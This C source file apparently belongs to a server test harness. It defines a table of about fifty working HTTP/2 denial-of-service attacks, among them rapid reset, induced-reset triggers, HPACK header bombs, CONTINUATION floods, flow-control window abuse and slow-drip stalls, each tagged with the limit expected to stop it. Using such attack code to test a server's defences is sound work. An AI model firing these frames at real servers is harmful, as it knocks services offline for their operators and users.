/* See the header. What is ended by time comes last: a test begins it first. */
#include "support/h2_attacks.h"

#include "support/must.h"

enum {
    DOWNLOADS = 40, /* more than the kernel's buffers take */
    DRIP_MS = 500,
    FILL_MS = 1500, /* until all that can be queued for the attacker is */
    BATCH = 64,     /* frames that one turn says */
    LATE_MS = 5,    /* until a request is under way */
    CODE_CANCEL = 8,
    SETTING_TABLE_SIZE = 1,
    SETTING_WINDOW = 4,
    FRAME_MAX = 16 * 1024,
    WINDOW_MAX = 0x7fffffff,
};

static void put(struct attacker *attacker, enum wire_type type, uint8_t flags, uint32_t stream,
                struct span payload)
{
    wire_put(&attacker->out, &(struct wire_frame){(uint8_t)type, flags, stream, payload});
}

/* ---- resets, its own and those that it makes us say ---- */

static void reset_rapidly(struct attacker *attacker)
{
    for (int i = 0; i < BATCH; i++) {
        uint32_t stream = attacker_asks(attacker, "/wait", WIRE_END_STREAM);
        wire_put_number(&attacker->out, WIRE_RST_STREAM, stream, CODE_CANCEL);
    }
}

/* Says GOAWAY first, as if it were leaving. */
static void say_goaway(struct attacker *attacker)
{
    wire_put_goaway(&attacker->out, 0, 0);
}

/* The ways to make a server reset a request that it works on ("MadeYouReset"). */
enum trigger {
    WINDOW_ZERO,
    WINDOW_OVERFLOW,
    HEAD_AFTER_END,
    DATA_AFTER_END,
    PRIORITY_ON_ITSELF,
    PRIORITY_LENGTH,
    HEAD_ON_ITSELF,
    BODY_TOO_LONG,
    BODY_TOO_SHORT,
    UPPER_CASE,
    CONNECTION_FIELD,
    EMPTY_HEAD,
};

static void ask_with(struct attacker *attacker, uint8_t flags, const char *name, const char *value)
{
    const char *const fields[] = {
        ":method", "POST",  ":scheme", "http", ":authority", attacker->options.authority,
        ":path",   "/wait", name,      value,  NULL};
    wire_put_headers(&attacker->out, attacker->stream, flags, fields);
    attacker->stream += 2;
}

static void put_on_itself(struct attacker *attacker, uint32_t stream)
{
    const char bytes[] = {0, (char)(stream >> 16), (char)(stream >> 8), (char)stream, 16};
    put(attacker, WIRE_PRIORITY, 0, stream, span_make(bytes, sizeof bytes));
}

/* A head that depends on its own stream: five bytes of priority in front of the block. */
static void put_head_on_itself(struct attacker *attacker)
{
    struct buf block = BUF_LIMIT(1024);
    uint32_t stream = attacker->stream;
    const char bytes[] = {0, (char)(stream >> 16), (char)(stream >> 8), (char)stream, 16};
    must(buf_put(&block, bytes, sizeof bytes));
    wire_put_field(&block, ":method", SPAN("GET"));
    wire_put_field(&block, ":scheme", SPAN("http"));
    wire_put_field(&block, ":authority", span_of(attacker->options.authority));
    wire_put_field(&block, ":path", SPAN("/wait"));
    put(attacker, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM | 0x20, stream,
        buf_span(&block));
    attacker->stream += 2;
    buf_release(&block);
}

static void trigger_one(struct attacker *attacker, enum trigger trigger)
{
    static const char *const more[] = {"x-more", "1", NULL};
    uint32_t stream = attacker->stream;
    struct buf *out = &attacker->out;
    switch (trigger) {
    case WINDOW_ZERO:
        wire_put_number(out, WIRE_WINDOW_UPDATE, attacker_asks(attacker, "/wait", 1), 0);
        break;
    case WINDOW_OVERFLOW:
        wire_put_number(out, WIRE_WINDOW_UPDATE, attacker_asks(attacker, "/wait", 1), WINDOW_MAX);
        break;
    case HEAD_AFTER_END:
        wire_put_headers(out, attacker_asks(attacker, "/wait", 1), WIRE_END_STREAM, more);
        break;
    case DATA_AFTER_END:
        wire_put_data(out, attacker_asks(attacker, "/wait", 1), 0, SPAN("more"));
        break;
    case PRIORITY_ON_ITSELF:
        put_on_itself(attacker, attacker_asks(attacker, "/wait", 1));
        break;
    case PRIORITY_LENGTH:
        put(attacker, WIRE_PRIORITY, 0, attacker_asks(attacker, "/wait", 1), SPAN("abcd"));
        break;
    case HEAD_ON_ITSELF:
        put_head_on_itself(attacker);
        break;
    case BODY_TOO_LONG:
        ask_with(attacker, 0, "content-length", "3");
        wire_put_data(out, stream, WIRE_END_STREAM, SPAN("more than that"));
        break;
    case BODY_TOO_SHORT:
        ask_with(attacker, 0, "content-length", "30");
        wire_put_data(out, stream, WIRE_END_STREAM, SPAN("less than that"));
        break;
    case UPPER_CASE:
        ask_with(attacker, WIRE_END_STREAM, "X-Upper", "1");
        break;
    case CONNECTION_FIELD:
        ask_with(attacker, WIRE_END_STREAM, "transfer-encoding", "chunked");
        break;
    case EMPTY_HEAD:
        put(attacker, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM | WIRE_PADDED, stream,
            span_make("\3\0\0\0", 4));
        attacker->stream += 2;
        break;
    }
}

static void make_it_reset(struct attacker *attacker)
{
    for (int i = 0; i < BATCH; i++)
        trigger_one(attacker, (enum trigger)attacker->attack->number);
}

static void open_many(struct attacker *attacker)
{
    for (int i = 0; i < BATCH; i++)
        (void)attacker_asks(attacker, "/wait", WIRE_END_STREAM);
}

enum late { LATE_RESETS, LATE_OVERFLOW };

/* Requests that are given up when the origin has heard of them: none ends where it came in. */
static void give_up_late(struct attacker *attacker)
{
    uint64_t now = loop_now_ms(attacker->loop);
    bool resets = attacker->attack->number == LATE_RESETS;
    if (attacker->state == 0) {
        open_many(attacker);
        attacker->state = now + LATE_MS;
    } else if (now >= attacker->state) {
        for (uint32_t stream = attacker->stream - 2 * BATCH; stream < attacker->stream; stream += 2)
            wire_put_number(&attacker->out, resets ? WIRE_RST_STREAM : WIRE_WINDOW_UPDATE, stream,
                            resets ? CODE_CANCEL : WINDOW_MAX);
        attacker->state = 0;
    }
}

/* ---- frames without a purpose ---- */

static void repeat_frame(struct attacker *attacker)
{
    static const struct wire_frame frames[] = {
        {WIRE_PING, 0, 0, SPAN_INIT("12345678")},
        {WIRE_PING, WIRE_ACK, 0, SPAN_INIT("12345678")},
        {WIRE_SETTINGS, 0, 0, SPAN_INIT("\0\1\0\0\20\0")},
        {WIRE_SETTINGS, 0, 0, SPAN_INIT("")},
        {WIRE_PRIORITY, 0, 1001, SPAN_INIT("\0\0\0\0\20")},
        {WIRE_GOAWAY, 0, 0, SPAN_INIT("\0\0\0\0\0\0\0\0")},
        {WIRE_WINDOW_UPDATE, 0, 0, SPAN_INIT("\0\0\0\1")},
        {0x77, 0xff, 0, SPAN_INIT("")},
        {WIRE_DATA, 0, 1, SPAN_INIT("")},
        {WIRE_DATA, WIRE_PADDED, 1, SPAN_INIT("\3\0\0\0")},
        {WIRE_WINDOW_UPDATE, 0, 1, SPAN_INIT("\0\0\0\1")},
        {WIRE_CONTINUATION, 0, 1, SPAN_INIT("")},
    };
    for (int i = 0; i < BATCH; i++)
        wire_put(&attacker->out, &frames[attacker->attack->number]);
}

enum {
    PINGS,
    PONGS,
    TABLES,
    SETTINGS,
    PRIORITIES,
    GOAWAYS,
    CREDITS,
    UNKNOWN,
    EMPTY,
    PADDED,
    STREAM_CREDITS,
    CONTINUED
};

static void open_upload(struct attacker *attacker)
{
    (void)attacker_asks(attacker, "/wait", 0);
}

static void open_long_upload(struct attacker *attacker)
{
    ask_with(attacker, 0, "content-length", "60000");
}

static void open_head(struct attacker *attacker)
{
    put(attacker, WIRE_HEADERS, WIRE_END_STREAM, 1, SPAN(""));
}

static void continue_in_bulk(struct attacker *attacker)
{
    char fill[1000];
    struct buf block = BUF_LIMIT(FRAME_MAX);
    memset(fill, 'a', sizeof fill);
    while (block.len + 1100 < FRAME_MAX)
        wire_put_field(&block, "x-fill", span_make(fill, sizeof fill));
    put(attacker, WIRE_CONTINUATION, 0, 1, buf_span(&block));
    buf_release(&block);
}

/* ---- heads that unpack ---- */

/* One field of 4,000 bytes into the table, then a byte for each time that it is meant. */
static void bomb(struct attacker *attacker)
{
    char value[4000];
    char again[200];
    struct buf block = BUF_LIMIT(8192);
    memset(value, 'a', sizeof value);
    memset(again, (char)(0x80 | 62), sizeof again);
    must(buf_put_span(&block, SPAN("\x82\x86\x84\x40\1x"))); /* GET http / and x: */
    must(buf_put_span(&block, SPAN("\x7f\xa1\x1e")));        /* 4000 as an integer of 7 bits */
    must(buf_put(&block, value, sizeof value) && buf_put(&block, again, sizeof again));
    put(attacker, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, attacker->stream,
        buf_span(&block));
    attacker->stream += 2;
    buf_release(&block);
}

/* A value above what the library's unpacker takes. */
static void send_giant_field(struct attacker *attacker)
{
    struct buf block = BUF_LIMIT(128 * 1024);
    struct buf value = BUF_LIMIT(128 * 1024);
    char *room = buf_room(&value, 70 * 1024);
    must(room != NULL);
    memset(room, 'a', 70 * 1024);
    buf_added(&value, 70 * 1024);
    wire_put_field(&block, "x-giant", buf_span(&value));
    struct span rest = buf_span(&block);
    for (bool is_first = true; rest.len > 0; is_first = false) {
        struct span part = span_first(rest, FRAME_MAX);
        rest = span_skip(rest, part.len);
        put(attacker, is_first ? WIRE_HEADERS : WIRE_CONTINUATION,
            (uint8_t)((rest.len == 0 ? WIRE_END_HEADERS : 0) | (is_first ? WIRE_END_STREAM : 0)), 1,
            part);
    }
    buf_release(&block);
    buf_release(&value);
}

/* The table grows and shrinks: by SETTINGS, and at the start of each block. */
static void change_tables(struct attacker *attacker)
{
    for (int i = 0; i < BATCH; i++)
        wire_put_settings(&attacker->out, SETTING_TABLE_SIZE, i % 2 ? 0 : 4096);
    put(attacker, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, attacker->stream,
        SPAN("\x20\x3f\xe1\x1f\x82\x86\x84"));
    attacker->stream += 2;
}

/* ---- windows ---- */

static void open_download(struct attacker *attacker)
{
    wire_put_settings(&attacker->out, SETTING_WINDOW, attacker->attack->number);
    (void)attacker_asks(attacker, "/bytes/100000000", WIRE_END_STREAM);
    wire_put_number(&attacker->out, WIRE_WINDOW_UPDATE, 0, WINDOW_MAX - 65535);
}

/* Gives back each byte by itself. */
static void give_crumbs_back(struct attacker *attacker, const struct wire_frame *frame)
{
    for (size_t i = 0; frame->type == WIRE_DATA && i < frame->payload.len; i++)
        wire_put_number(&attacker->out, WIRE_WINDOW_UPDATE, 1, 1);
}

/* What was granted is taken back: windows go below zero and up again. */
static void swing_windows(struct attacker *attacker)
{
    for (uint32_t i = 0; i < BATCH; i++)
        wire_put_settings(&attacker->out, SETTING_WINDOW, i % 2 ? 65535 : 0);
}

static void overflow_window(struct attacker *attacker)
{
    for (int i = 0; i < 2; i++)
        wire_put_number(&attacker->out, WIRE_WINDOW_UPDATE, 0, WINDOW_MAX);
}

/* ---- broken framing ---- */

static void send_garbage(struct attacker *attacker)
{
    put(attacker, WIRE_DATA, 0, 0, SPAN("of no stream"));
}

static void send_large_frame(struct attacker *attacker)
{
    static const char zeros[FRAME_MAX + 1];
    put(attacker, WIRE_DATA, 0, 1, span_make(zeros, sizeof zeros));
}

static void push(struct attacker *attacker)
{
    put(attacker, WIRE_PUSH_PROMISE, WIRE_END_HEADERS, 1, SPAN("\0\0\0\2\x82\x86\x84"));
}

/* ---- silence ---- */

static void send_half_frame(struct attacker *attacker)
{
    must(buf_put_span(&attacker->out, SPAN("\0\0\10\6\0\0\0\0\0half")));
}

static void send_half_frame_head(struct attacker *attacker)
{
    must(buf_put_span(&attacker->out, SPAN("\0\0\10\6")));
}

static void send_preface(struct attacker *attacker)
{
    must(buf_put_span(&attacker->out, SPAN(WIRE_PREFACE)));
}

/* A byte now and then, so that it never falls silent. */
static bool is_time(struct attacker *attacker)
{
    uint64_t now = loop_now_ms(attacker->loop);
    if (now < attacker->state)
        return false;
    attacker->state = now + DRIP_MS;
    return true;
}

static void drip_pings(struct attacker *attacker)
{
    if (is_time(attacker))
        put(attacker, WIRE_PING, 0, 0, SPAN("12345678"));
}

static void drip_body(struct attacker *attacker)
{
    if (is_time(attacker))
        wire_put_data(&attacker->out, 1, 0, SPAN("a"));
}

static void drip_head(struct attacker *attacker)
{
    if (is_time(attacker))
        put(attacker, WIRE_CONTINUATION, 0, 1, SPAN(""));
}

static void drip_credit(struct attacker *attacker)
{
    if (is_time(attacker))
        wire_put_number(&attacker->out, WIRE_WINDOW_UPDATE, 1, 1);
}

/* The window that the download waits for is taken back to below zero. */
static void take_window_back(struct attacker *attacker, const struct wire_frame *frame)
{
    if (frame->type == WIRE_DATA && attacker->state == 0) {
        attacker->state = 1;
        wire_put_settings(&attacker->out, SETTING_WINDOW, 0);
    }
}

/* Windows without end, and nothing is read. */
static void open_downloads(struct attacker *attacker)
{
    wire_put_settings(&attacker->out, SETTING_WINDOW, WINDOW_MAX);
    wire_put_number(&attacker->out, WIRE_WINDOW_UPDATE, 0, WINDOW_MAX - 65535);
    for (int i = 0; i < DOWNLOADS; i++)
        (void)attacker_asks(attacker, "/bytes/100000000", WIRE_END_STREAM);
}

/* Behind downloads that nobody reads, each refused stream waits to be told. */
static void open_and_wait(struct attacker *attacker)
{
    if (loop_now_ms(attacker->loop) >= attacker->begun_ms + FILL_MS)
        open_many(attacker);
}

static const struct attack attacks[] = {
#define ATTACK(title, ends_by) .name = "h2-" title, .limit = "h2_" ends_by, .h2 = true
    {ATTACK("rapid-reset", "resets"), .more = reset_rapidly},
    /* Who said GOAWAY is let go as soon as nothing of it runs, which is no fault. */
    {.name = "h2-goaway-and-on", .h2 = true, .begin = say_goaway, .more = reset_rapidly},
    {ATTACK("window-zero", "protocol"), .more = make_it_reset, .number = WINDOW_ZERO},
    {ATTACK("window-overflow", "faults"), .more = make_it_reset, .number = WINDOW_OVERFLOW},
    {ATTACK("late-resets", "resets"), .more = give_up_late, .number = LATE_RESETS},
    {ATTACK("late-overflow", "faults"), .more = give_up_late, .number = LATE_OVERFLOW},
    {ATTACK("head-after-end", "protocol"), .more = make_it_reset, .number = HEAD_AFTER_END},
    {ATTACK("data-after-end", "protocol"), .more = make_it_reset, .number = DATA_AFTER_END},
    {ATTACK("priority-on-itself", "protocol"), .more = make_it_reset, .number = PRIORITY_ON_ITSELF},
    {ATTACK("priority-length", "protocol"), .more = make_it_reset, .number = PRIORITY_LENGTH},
    {ATTACK("head-on-itself", "protocol"), .more = make_it_reset, .number = HEAD_ON_ITSELF},
    {ATTACK("body-too-long", "faults"), .more = make_it_reset, .number = BODY_TOO_LONG},
    {ATTACK("body-too-short", "faults"), .more = make_it_reset, .number = BODY_TOO_SHORT},
    {ATTACK("upper-case", "resets"), .more = make_it_reset, .number = UPPER_CASE},
    {ATTACK("connection-field", "resets"), .more = make_it_reset, .number = CONNECTION_FIELD},
    {ATTACK("empty-heads", "resets"), .more = make_it_reset, .number = EMPTY_HEAD},
    {ATTACK("streams", "resets"), .more = open_many},
    {ATTACK("streams-deaf", "unread"), .deaf = true, .begin = open_downloads,
     .more = open_and_wait},
    {ATTACK("pings", "pings"), .more = repeat_frame, .number = PINGS},
    {ATTACK("pings-deaf", "pings"), .deaf = true, .more = repeat_frame, .number = PINGS},
    {ATTACK("pongs", "pings"), .more = repeat_frame, .number = PONGS},
    {ATTACK("settings", "settings"), .more = repeat_frame, .number = SETTINGS},
    {ATTACK("settings-deaf", "settings"), .deaf = true, .more = repeat_frame, .number = TABLES},
    {ATTACK("tables", "settings"), .more = change_tables},
    {ATTACK("priorities", "priorities"), .more = repeat_frame, .number = PRIORITIES},
    {ATTACK("goaways", "goaways"), .more = repeat_frame, .number = GOAWAYS},
    {ATTACK("credits", "window_updates"), .more = repeat_frame, .number = CREDITS},
    {ATTACK("stream-credits", "window_updates"), .begin = open_upload, .more = repeat_frame,
     .number = STREAM_CREDITS},
    {ATTACK("unknown-frames", "unknown_frames"), .more = repeat_frame, .number = UNKNOWN},
    {ATTACK("empty-data", "empty_frames"), .begin = open_upload, .more = repeat_frame,
     .number = EMPTY},
    {ATTACK("padding", "empty_frames"), .begin = open_upload, .more = repeat_frame,
     .number = PADDED},
    {ATTACK("empty-continuations", "continuations"), .begin = open_head, .more = repeat_frame,
     .number = CONTINUED},
    {ATTACK("continuations", "continuations"), .begin = open_head, .more = continue_in_bulk},
    {ATTACK("bomb", "heads"), .more = bomb},
    {ATTACK("giant-field", "protocol"), .begin = send_giant_field},
    {ATTACK("tiny-windows", "tiny_windows"), .begin = open_download, .number = 1,
     .on_frame = give_crumbs_back},
    {ATTACK("swinging-windows", "settings"), .begin = open_download, .number = 65535,
     .more = swing_windows},
    {ATTACK("connection-overflow", "protocol"), .begin = overflow_window},
    {ATTACK("garbage", "protocol"), .begin = send_garbage},
    {ATTACK("large-frame", "protocol"), .begin = send_large_frame},
    {ATTACK("push", "protocol"), .begin = push},
    {ATTACK("half-frame", "slow_frames"), .begin = send_half_frame, .is_slow = true},
    {ATTACK("half-frame-head", "slow_frames"), .begin = send_half_frame_head, .is_slow = true},
    {ATTACK("half-head", "slow_frames"), .begin = open_head, .is_slow = true},
    {ATTACK("dripping-head", "slow_frames"), .is_slow = true, .begin = open_head,
     .more = drip_head},
    {ATTACK("pings-now-and-then", "idle"), .is_slow = true, .more = drip_pings},
    {.name = "h2-goaway-and-pings",
     .h2 = true,
     .is_slow = true,
     .begin = say_goaway,
     .more = drip_pings},
    {ATTACK("dripping-body", "stalls"), .is_slow = true, .begin = open_long_upload,
     .more = drip_body},
    {ATTACK("silent-body", "stalls"), .is_slow = true, .begin = open_upload},
    {ATTACK("shut-window", "stalls"), .is_slow = true, .begin = open_download, .number = 0},
    {ATTACK("dripping-window", "stalls"), .is_slow = true, .begin = open_download, .number = 0,
     .more = drip_credit},
    {ATTACK("negative-window", "stalls"), .is_slow = true, .begin = open_download, .number = 65535,
     .on_frame = take_window_back},
    {.name = "h2-deaf-downloads",
     .limit = "read_pace",
     .h2 = true,
     .is_slow = true,
     .deaf = true,
     .begin = open_downloads},
    {.name = "h2-preface", .limit = "h2_greeting", .begin = send_preface, .is_slow = true},
};

const struct attack *h2_attacks(size_t *count)
{
    *count = sizeof attacks / sizeof *attacks;
    return attacks;
}
